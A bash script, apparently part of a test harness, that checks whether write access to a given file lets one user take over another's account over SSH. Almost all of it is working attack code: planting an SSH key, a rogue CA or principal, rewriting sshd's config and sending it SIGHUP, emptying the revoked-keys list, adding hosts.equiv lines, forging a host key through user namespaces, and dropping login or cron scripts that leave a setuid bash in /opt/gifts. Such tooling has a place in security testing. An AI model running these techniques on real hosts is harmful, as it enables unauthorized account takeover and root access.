# plant WHAT FILE: `by` writes to FILE on hostb what opens `as`:
#	key	a key of their own at its end, with which they then log in by ssh
#	ca	a CA of their own, which certifies their key for the principal that stands behind FILE
#	principal	that of their certificate ~/mine-cert.pub, which stands behind FILE
#	config	that their key opens every account, after which sshd reads its configuration anew
#	revoked	nothing: the file is empty then, and they log in with their key ~/mine
#	equiv	a line that lets them in by the word of hostb's host key
#	known	a key of their own as hostb's host key, which is then what vouches for them
#	program	a command that prints a key of their own, to be run by an sshd
#	login	commands for a shell, which make a setuid shell once `as` logs in
#	cron	the same as a script, which is run once as cron does, by run-parts
# A file that is not there is made; one that cannot be written is replaced, where its folder allows it.

TRY_ON[plant]=hostb

try_plant() {
	local said=''
	"plant_$1" "${@:2}" || true
	[ "$said" = "$TO_UID" ] && echo shell || echo no
}

plant_key() {
	as_client ssh-keygen -q -t ed25519 -N '' -f /tmp/planted </dev/null
	plant_text "$1" "$(</tmp/planted.pub)"
	plant_ssh
}

plant_ssh() {
	said=$(as_client ssh -F none -i "${1-/tmp/planted}" -o BatchMode=yes -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes "$TO@127.0.0.1" 'id -u' </dev/null)
}

plant_login() {
	plant_gift "$1"
	su - "$TO" -c : </dev/null >/dev/null 2>&1
	said=$(as_client /opt/gifts/sh -p -c 'id -u')
}

plant_cron() {
	plant_gift "$1"
	run-parts "${1%/*}" >/dev/null 2>&1
	said=$(as_client /opt/gifts/sh -p -c 'id -u')
}

# /tmp is mounted nosuid.
plant_gift() {
	install -d -m 1777 /opt/gifts
	plant_text "$1" $'#!/bin/sh\ncp /bin/bash /opt/gifts/sh; chmod 4755 /opt/gifts/sh'
}

plant_text() {
	as_client bash -c '{ [ ! -e "$1" ] || [ -w "$1" ]; } && echo "$2" >>"$1" && exit
		{ cat "$1"; echo "$2"; } >"$1.new" && chmod 0755 "$1.new" && mv -f "$1.new" "$1"' plant "$1" "$2"
}

plant_config() {
	as_client ssh-keygen -q -t ed25519 -N '' -f /tmp/planted </dev/null
	plant_text "$1" $'AuthorizedKeysFile /tmp/planted.pub\nStrictModes no'
	as_client chmod 0644 /tmp/planted.pub
	anew
	plant_ssh
}

# sshd reads its configuration anew, and answers again.
anew() {
	kill -HUP "$(</run/sshd.pid)"
	for _ in {1..500}; do
		read -rt 0.05 -u "$NEVER" || true
		[ ! -s /run/sshd.pid ] || ! ssh-keyscan -T 1 -t ed25519 127.0.0.1 2>/dev/null | grep -q . || return 0
	done
}

plant_ca() {
	as_client bash -c 'ssh-keygen -q -t ed25519 -N "" -f /tmp/ca && ssh-keygen -q -t ed25519 -N "" -f /tmp/planted &&
		ssh-keygen -q -s /tmp/ca -I row -n "$1" -V always:forever /tmp/planted.pub' ca "$2" </dev/null
	plant_text "$1" "$(</tmp/ca.pub)"
	plant_ssh
}

plant_principal() {
	plant_text "$1" "$2"
	plant_ssh "/home/$BY/mine"
}

plant_program() {
	as_client ssh-keygen -q -t ed25519 -N '' -f /tmp/planted </dev/null
	plant_text "$1" "echo '$(</tmp/planted.pub)'"
	plant_ssh
}

plant_revoked() {
	as_client bash -c ': >"$1" || { : >"$1.new" && mv -f "$1.new" "$1"; }' plant "$1"
	plant_ssh "/home/$BY/mine"
}

plant_equiv() {
	plant_text "$1" "$SERVER $BY"
	plant_vouched
}

plant_vouched() {
	said=$(as_client "$@" ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
		-o HostbasedAuthentication=yes -o PreferredAuthentications=hostbased -o BindAddress="$SERVER" \
		"$TO@$SERVER" 'id -u' </dev/null)
}

# In a name space of their own they are root, under their own name: ssh-keysign signs with their key.
plant_known() {
	as_client bash -c 'mkdir /tmp/etc && ssh-keygen -q -t ed25519 -N "" -f /tmp/etc/ssh_host_ed25519_key &&
		echo EnableSSHKeysign yes >/tmp/etc/ssh_config && echo "$0:x:0:0::/tmp:/bin/bash" >/tmp/etc/passwd' "$BY"
	plant_text "$1" "$SERVER $(</tmp/etc/ssh_host_ed25519_key.pub)"
	plant_vouched unshare -rm bash -c 'mount --bind /tmp/etc /etc/ssh && mount --bind /tmp/etc/passwd /etc/passwd && "$@"' as
}
